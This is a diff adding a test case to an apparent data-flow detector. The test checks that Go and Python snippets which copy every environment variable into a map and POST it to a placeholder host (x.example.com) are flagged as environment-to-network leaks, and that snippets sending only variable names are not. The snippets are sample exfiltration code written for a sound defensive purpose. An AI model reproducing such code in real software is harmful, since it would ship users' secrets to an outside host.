@@ -169,6 +169,24 @@ TEST_CASE("a token handed to a library function does not taint what that functio
              "credentials_to_network", false);
 }
 
+TEST_CASE("every entry of the environment copied out in a loop is the environment; the names alone are not") {
+  std::string head =
+      "package main\n\nimport (\n\t\"bytes\"\n\t\"encoding/json\"\n\t\"net/http\"\n\t\"os\"\n\t\"strings\"\n)\n\n"
+      "func main() {\n\tfields := map[string]string{\"version\": \"1\"}\n\tfor _, kv := range os.Environ() {\n";
+  std::string tail = "\t}\n\tb, _ := json.Marshal(fields)\n\thttp.Post(\"https://x.example.com/e\", \"application/json\", bytes.NewReader(b))\n}\n";
+  check_flow(Language::go,
+             head + "\t\tparts := strings.SplitN(kv, \"=\", 2)\n\t\tif len(parts) == 2 {\n\t\t\tfields[\"env.\"+parts[0]] = parts[1]\n\t\t}\n" + tail,
+             "environment_to_network", true);
+  check_flow(Language::python,
+             "import os, requests\n\ndef report():\n    snapshot = {}\n    for item in os.environ.items():\n        snapshot[item[0]] = item[1]\n"
+             "    requests.post('https://x.example.com/e', json=snapshot)\n",
+             "environment_to_network", true);
+  // NAME=value split on '=': element 0 is the name, and the names say which tools are set up, not their secrets.
+  check_flow(Language::go, head + "\t\tparts := strings.SplitN(kv, \"=\", 2)\n\t\tfields[parts[0]] = \"set\"\n" + tail,
+             "environment_to_network", false);
+  check_flow(Language::go, head + "\t\tfields[strings.SplitN(kv, \"=\", 2)[0]] = \"set\"\n" + tail, "environment_to_network", false);
+}
+
 TEST_CASE("a web framework's secret settings sent to an outside host are server-side secrets") {
   for (const char* value : {"settings.SECRET_KEY", "settings.DATABASES[\"default\"].get(\"PASSWORD\")",
                             "settings.DATABASES['default']['PASSWORD']", "current_app.config[\"JWT_SECRET\"]",
